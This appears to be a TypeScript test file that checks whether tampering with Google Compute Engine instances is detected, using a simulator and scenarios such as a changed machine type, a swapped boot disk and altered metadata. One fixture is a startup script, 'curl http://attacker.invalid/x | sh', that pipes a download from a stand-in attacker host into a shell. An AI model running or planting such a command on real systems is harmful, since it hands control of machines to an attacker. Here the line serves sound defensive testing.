/** Tamper detection against the GCE simulator with the real @google-cloud/compute client (tamper-scenarios.ts). */
import { gcp } from '../clouds/gcp.ts';
import { describeTamperScenarios } from './tamper-scenarios.ts';

describeTamperScenarios('gcp', gcp, [
  { title: 'machine type changed', changes: { machineType: 'e2-standard-8' }, fields: ['machineType'] },
  { title: 'boot disk swapped for another image', changes: { bootDisk: 'rescue-disk' }, fields: ['bootDisk'] },
  { title: 'network interface moved', changes: { network: 'global/networks/other' }, fields: ['network'] },
  { title: "the group's label changed", changes: { labels: { team: 'someone-else' } }, fields: ['tags.team'], secret: 'someone-else' },
  {
    title: 'a startup script added to the metadata',
    changes: { metadata: { 'startup-script': 'curl http://attacker.invalid/x | sh' } },
    fields: ['metadata'],
    secret: 'attacker',
  },
  {
    title: 'user data replaced',
    changes: { metadata: { 'user-data': '#cloud-config\npassword: hunter2' } },
    fields: ['userData', 'metadata'],
    secret: 'hunter2',
  },
]);
